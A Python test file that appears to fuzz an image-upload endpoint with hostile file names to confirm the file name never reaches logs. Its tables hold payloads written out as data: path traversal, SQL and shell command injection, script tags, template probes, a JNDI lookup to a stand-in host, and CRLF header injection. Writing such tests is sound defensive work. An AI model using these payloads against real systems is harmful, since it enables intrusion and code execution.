"""A good picture under a hostile name: answered as under any other, or refused, and the name goes nowhere."""

from collections.abc import Iterator

from tests.helpers.hostile.case import Case, form, part, post, small_lesion

SECRET = b"Jane-Doe-1970"
"""Part of every name; it must be in no log."""

NAMES = {
    "a path": b"../../../../etc/Jane-Doe-1970",
    "a path of Windows": b"..\\..\\windows\\Jane-Doe-1970.png",
    "an absolute path": b"/etc/Jane-Doe-1970",
    "a drive": b"C:\\Jane-Doe-1970.png",
    "a share": b"\\\\host\\Jane-Doe-1970",
    "a URL": b"http://127.0.0.1/Jane-Doe-1970.png",
    "an encoded path": b"..%2f..%2fJane-Doe-1970.png",
    "a NUL": b"Jane-Doe-1970.png\0.jpg",
    "an encoded NUL": b"Jane-Doe-1970.png%00.jpg",
    "a right-to-left override": "Jane-Doe-1970\u202egpj.exe".encode(),
    "10 kB": b"Jane-Doe-1970" + b"a" * 10_000 + b".png",
    "quotes": b'Jane-Doe-1970\\"; name=\\"other',
    "a single quote": b"Jane-Doe-1970' OR 1=1 --",
    "a script": b"<script>alert('Jane-Doe-1970')</script>.png",
    "a shell command": b"$(touch Jane-Doe-1970);`id`.png",
    "a template": b"{{7*7}}Jane-Doe-1970{% x %}",
    "a format": b"%(most)s %n%n%n {0.__class__} Jane-Doe-1970",
    "a log injection": b"${jndi:ldap://x/Jane-Doe-1970}",
    "spaces": b" " * 300 + b"Jane-Doe-1970",
    "a dot": b".Jane-Doe-1970",
    "a device": b"CON.Jane-Doe-1970",
    "no extension": b"Jane-Doe-1970",
    "another extension": b"Jane-Doe-1970.exe",
    "invalid UTF-8": b"Jane-Doe-1970\xff\xfe\xc3\x28.png",
    "emoji": "Jane-Doe-1970 \U0001f468\u200d\U0001f469\u200d\U0001f467.png".encode(),
    "combining marks": ("Jane-Doe-1970" + "Z\u0351\u036b\u0343" * 200).encode(),
    "control characters": b"Jane-Doe-1970\x07\x1b[31m\x08.png",
    "a tab": b"Jane-Doe-1970\t.png",
    "a formula": b"=HYPERLINK(Jane-Doe-1970)",
    "semicolons": b"Jane-Doe-1970;;;;.png",
}
RAW = {
    "a line end": b'form-data; name="image"; filename="Jane-Doe-1970\r\nX-Injected: 1\r\n.png"',
    "a line feed": b'form-data; name="image"; filename="Jane-Doe-1970\nX-Injected: 1\n.png"',
    "a name that never ends": b'form-data; name="image"; filename="Jane-Doe-1970',
    "an encoded name": b"form-data; name=\"image\"; filename*=UTF-8''Jane-Doe-1970%2e%2e%2f%0d%0aX-Injected:1",
    "two names": b'form-data; name="image"; filename="Jane-Doe-1970.png"; filename="../b.png"',
    "a name in pieces": b'form-data; name="image"; filename*0="Jane-Doe-"; filename*1="1970.png"',
    "an unknown charset": b"form-data; name=\"image\"; filename*=utf-7''Jane-Doe-1970+ADw-",
    "20,000 pieces": b'form-data; name="image"' + b"".join(b"; filename*%d=a" % number for number in range(20_000)),
}


def cases() -> Iterator[Case]:
    picture = small_lesion()
    for name, value in NAMES.items():
        disposition = b'form-data; name="image"; filename="%b"' % value
        yield Case(f"name: {name}", "file names", post(form(part(picture, disposition))), picture, picture)
    for name, disposition in RAW.items():
        yield Case(f"name: {name}", "file names", post(form(part(picture, disposition))), picture, picture)
